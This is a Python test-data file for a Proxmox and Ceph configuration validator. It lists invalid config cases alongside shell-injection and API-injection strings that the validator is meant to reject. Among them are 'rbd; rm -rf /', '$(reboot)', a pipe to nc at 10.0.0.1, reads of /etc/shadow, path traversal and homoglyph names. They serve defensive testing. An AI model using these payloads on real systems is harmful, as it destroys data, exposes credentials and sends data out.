"""The shared test data: config cases the model must refuse, and hostile strings for every field
that reaches a shell or an API path. The unit tests (tests/unit/test_config.py,
test_shell_payloads.py) and the engine tests (tests/integration/test_bad_config_engine.py) run the
same cases, each at its own level."""

from __future__ import annotations

from typing import Any

DELETE = object()  # set_path(raw, key, DELETE) removes the key


class Also(dict):
    """A case's value that needs more than its key: ``{path: value}`` set in order, the case's key among them."""


def set_path(raw: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """Set ``a.b[0].c`` in raw config; ``value=DELETE`` removes the key; an :class:`Also` sets each of its paths."""
    if isinstance(value, Also):
        for other, one in value.items():
            set_path(raw, other, one)
        return raw
    parts: list[str | int] = []
    for piece in path.replace("]", "").split("."):
        name, *indexes = piece.split("[")
        parts.append(name)
        parts.extend(int(i) for i in indexes)
    target: Any = raw
    for part in parts[:-1]:
        target = target.setdefault(part, {}) if isinstance(target, dict) else target[part]
    if value is DELETE:
        del target[parts[-1]]
    else:
        target[parts[-1]] = value
    return raw


# two to four valid VMs for the cases between them (vm201..vm204, one per node and a fourth)
VM_A, VM_B, VM_C, VM_D = ({"id": 200 + i, "name": f"vm20{i}", "node": f"pve-node{min(i, 3)}", "iso": "local:iso/debian-12.iso"} for i in range(1, 5))
TOGETHER = {"name": "db-together", "vms": ["vm201", "vm202"], "keep": "together"}
APART = {"name": "db-apart", "vms": ["vm201", "vm202"], "keep": "apart"}
PREFER_NODE1 = {"name": "prefer-node1", "nodes": {"pve-node1": 2, "pve-node2": 1}}  # two priorities

# (key path to break, bad value, the key the message must name, a word of the rule)
INVALID: list[tuple[str, Any, str, str]] = [
    ("ceph.pool.pgNum", 200, "ceph.pool.pgNum", "power of two"),
    ("ceph.pool.pgNum", 0, "ceph.pool.pgNum", ">="),
    ("ceph.pool.pgNum", 65536, "ceph.pool.pgNum", "<="),
    ("ceph.pool.pgNum", "many", "ceph.pool.pgNum", "whole number"),
    ("ceph.pool.size", 0, "ceph.pool.size", ">="),
    ("ceph.pool.autoscaleMode", "maybe", "ceph.pool.autoscaleMode", "one of"),
    ("ceph.pool.name", "Rbd Pool", "ceph.pool.name", "a-z"),
    ("ceph.pool.name", "", "ceph.pool.name", "a-z"),
    ("ceph.pool.name", "-rbd", "ceph.pool.name", "a-z"),
    ("ceph.client.name", "client.proxmox", "ceph.client.name", "client."),
    ("ceph.client.caps", "admin", "ceph.client.caps", "one of"),
    ("ceph.monitors", [], "ceph.monitors", "empty"),
    ("ceph.monitors", ["10.10.10.101", "10.10.10.101"], "ceph.monitors", "once"),
    ("ceph.monitors[0]", "10.10.10.300", "ceph.monitors[0]", "IP address"),
    ("ceph.admin.host", "ceph admin", "ceph.admin.host", "IP address"),
    ("ceph.admin.port", 70000, "ceph.admin.port", "<="),
    ("ceph.admin.user", "Root User", "ceph.admin.user", "user name"),
    ("ceph.admin", DELETE, "ceph.admin", "required"),
    ("ceph.scrubWindow.beginHour", 24, "ceph.scrubWindow.beginHour", "<="),
    ("ceph.scrubWindow.endHour", 22, "ceph.scrubWindow", "differ"),
    ("ceph.pool.pgnum", 64, "ceph.pool.pgnum", "not a known key"),
    ("proxmox.endpoint", "http://10.10.10.11:8006", "proxmox.endpoint", "https"),
    ("proxmox.apiTimeout", 2, "proxmox.apiTimeout", ">="),
    ("proxmox.nodes", [], "proxmox.nodes", "empty"),
    ("proxmox.nodes[0].name", "PVE_node1", "proxmox.nodes[0].name", "node name"),
    ("proxmox.nodes[1].name", "pve-node1", "proxmox.nodes", "unique"),
    ("proxmox.nodes[0].address", "10.10.10.11;reboot", "proxmox.nodes[0].address", "IP address"),
    ("proxmox.verifyTls", "sometimes", "proxmox.verifyTls", "true or false"),
    ("storage.id", "Ceph RBD", "storage.id", "storage id"),
    ("storage.content", ["rootdir"], "storage.content", "images"),
    ("storage.content", ["backup"], "storage.content", "one of"),
    ("vms[0].id", 99, "vms[0].id", ">="),
    ("vms[0].id", 1_000_000_000, "vms[0].id", "<="),
    ("vms[0].name", "VM 101", "vms[0].name", "DNS name"),
    ("vms[0].node", "pve-node9", "vms[0].node", "proxmox.nodes"),
    ("vms[0].cpuType", "host", "vms[0].cpuType", "host"),
    ("vms[0].iso", "debian.iso", "vms[0].iso", "ISO volume"),
    ("vms[0].bridge", "br 0", "vms[0].bridge", "bridge"),
    ("vms[0].memoryMb", 8, "vms[0].memoryMb", ">="),
    ("vms[0].diskGb", 0, "vms[0].diskGb", ">="),
    ("vms[0].affinity", "nowhere", "vms[0].affinity", "ha.affinities"),
    ("ha.mode", "both", "ha.mode", "one of"),
    ("ha.maxRestart", -1, "ha.maxRestart", ">="),
    ("ha.maxRelocate", 11, "ha.maxRelocate", "<="),
    ("ha.state", "running", "ha.state", "one of"),
    ("ha.shutdownPolicy", "reboot", "ha.shutdownPolicy", "one of"),
    ("ha.affinities[0].nodes", {"pve-node7": 1}, "ha.affinities[0].nodes.pve-node7", "proxmox.nodes"),
    ("ha.affinities[0].name", "X", "ha.affinities[0].name", "a-z"),
    ("adopt.pool", "yes please", "adopt.pool", "true or false"),
    ("allowPoolDeletion", "perhaps", "allowPoolDeletion", "true or false"),
    # what Python's int() and pydantic's lax bool would take, and an operator means as a typo
    ("vms[0].id", "+101", "vms[0].id", "digits alone"),
    ("vms[0].id", "1_000", "vms[0].id", "digits alone"),
    ("vms[0].id", "101.0", "vms[0].id", "digits alone"),
    ("vms[0].cores", True, "vms[0].cores", "digits alone"),
    ("vms[0].ha", "yes", "vms[0].ha", "true or false"),
    ("ha.affinities[0].nodes", {"pve-node1": "1.5"}, "ha.affinities[0].nodes.pve-node1", "digits alone"),
    # VMs as operators build them (issue #25): clones, cloud-init, disks, NICs
    ("vms[0].nics", [{"bridge": "vmbr0", "vlan": 4095}], "vms[0].nics[0].vlan", "<="),
    ("vms[0].nics", [{"bridge": "vmbr0", "vlan": 0}], "vms[0].nics[0].vlan", ">="),
    ("vms[0].cloudInit", {"sshKeys": ["ssh-ed25519 not-base64!"]}, "vms[0].cloudInit.sshKeys[0]", "public key"),
    (
        "vms[0].cloudInit",
        {"sshKeys": ["ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"]},
        "vms[0].cloudInit.sshKeys[0]",
        "not a ssh-rsa",
    ),
    ("vms[0].cloudInit", {"sshKeys": ["-----BEGIN OPENSSH PRIVATE KEY-----"]}, "vms[0].cloudInit.sshKeys[0]", "public key"),
    ("vms[0].cloudInit", {"ip": "192.0.2.10"}, "vms[0].cloudInit.ip", "prefix"),
    ("vms[0].cloudInit", {"ip": "192.0.2.10/24", "gateway": "198.51.100.1"}, "vms[0].cloudInit", "not in"),
    ("vms[0].disks", [{"sizeGb": 32}, {"sizeGb": 0}], "vms[0].disks[1].sizeGb", ">="),
    ("vms[0].clone", {"template": 9000}, "vms[0].iso", "clone"),  # the VM has an ISO: one way to boot
    ("vms[0].clone", {"template": 101}, "vms[0].clone.template", "not a template"),
    ("vms[0].tags", ["pulumi-stack.other.dev"], "vms[0].tags[0]", "marker"),
    ("templates", [{"id": 101, "name": "golden", "node": "pve-node1", "image": "local:import/a.qcow2"}], "templates[0].id", "apart"),
    ("templates", [{"id": 9000, "name": "golden", "node": "pve-node1", "image": "local:iso/a.iso"}], "templates[0].image", "import volume"),
    # VMs kept together or apart (issue #26): each refused as PVE would drop the rule
    ("ha.resourceAffinities", [{"name": "db-apart", "vms": ["vm101", "vm999"], "keep": "apart"}], "ha.resourceAffinities[0].vms[1]", "must name a VM"),
    ("ha.resourceAffinities", [{"name": "db-apart", "vms": ["vm101"], "keep": "apart"}], "ha.resourceAffinities[0].vms", "two or more"),
    ("ha.resourceAffinities", [{"name": "db-apart", "vms": ["vm101", "vm101"], "keep": "apart"}], "ha.resourceAffinities[0].vms", "twice"),
    ("ha.resourceAffinities", [{"name": "db", "vms": ["vm101", "vm102"], "keep": "aside"}], "ha.resourceAffinities[0].keep", "one of"),
    (
        "ha.mode",
        Also({"ha.mode": "groups", "ha.resourceAffinities": [{"name": "db", "vms": ["vm101", "vm102"], "keep": "apart"}]}),
        "ha.resourceAffinities",
        "PVE 8",
    ),
    ("ha.resourceAffinities", Also({"vms": [VM_A, VM_B], "ha.resourceAffinities": [dict(TOGETHER), dict(APART)]}), "ha.resourceAffinities[1].vms", "together"),
    (
        "ha.resourceAffinities",
        Also({"vms": [VM_A, VM_B, VM_C, VM_D], "ha.resourceAffinities": [{"name": "four", "vms": ["vm201", "vm202", "vm203", "vm204"], "keep": "apart"}]}),
        "ha.resourceAffinities[0].vms",
        "nodes",
    ),
    (
        "ha.resourceAffinities",
        Also({"vms": [dict(VM_A, affinity="prefer-node1"), VM_B], "ha.affinities": [PREFER_NODE1], "ha.resourceAffinities": [dict(APART)]}),
        "ha.resourceAffinities[0].vms",
        "one priority",
    ),
    ("proxmoxApiToken", "root@pam:password", "proxmoxApiToken", "API token"),
    ("proxmoxApiToken", DELETE, "proxmoxApiToken", "required"),
]


PAYLOADS = [
    "rbd; rm -rf /",
    "rbd && reboot",
    "rbd || true",
    "rbd | nc 10.0.0.1 1",
    "$(reboot)",
    "`reboot`",
    "rbd\nreboot",
    "rbd\rreboot",
    "rbd'; reboot; '",
    'rbd"; reboot; "',
    "rbd > /etc/passwd",
    "rbd < /etc/shadow",
    "rbd & reboot",
    "${IFS}reboot",
    "rbd #comment",
    "../../etc",
    "rbd\\reboot",
    "*",
    "rbd{a,b}",
    "~root",
    "rbd\x00reboot",
    "-rf",
    "--yes-i-really-really-mean-it",
    "rbd pool",
]

# Strings that would change what a PVE API request means if a value reached it unchecked: another
# key in a property string (net0, ide2, cpu), another field of a form body or query, another path.
API_PAYLOADS = [
    "vmbr0,firewall=1",  # net0: bridge=<value>,... gains a key
    "vmbr0,tag=5",
    "local:iso/a.iso,media=disk",  # ide2: <volume>,media=cdrom becomes a disk
    "x86-64-v2-AES,flags=+aes",  # cpu: cputype=<value> gains flags
    "vm101&delete=scsi0",  # a form body or query field more
    "vm101%26x",  # the same, percent-encoded
    "vm101?x=1",
    "../../cluster/ha",  # another API path
    "%2e%2e%2f",  # ../, percent-encoded
    "pve-node1/qemu/101",
    "a=b",
    "vm101 ",  # a trailing space PVE would trim, not the name the state holds
    "v\u043c101",  # Cyrillic em: looks like vm101
    "\uff56\uff4d\uff11\uff10\uff11",  # fullwidth vm101
    "vm101\u200b",  # a zero-width space
    "a" * 300,  # longer than any PVE name, id or volume
]
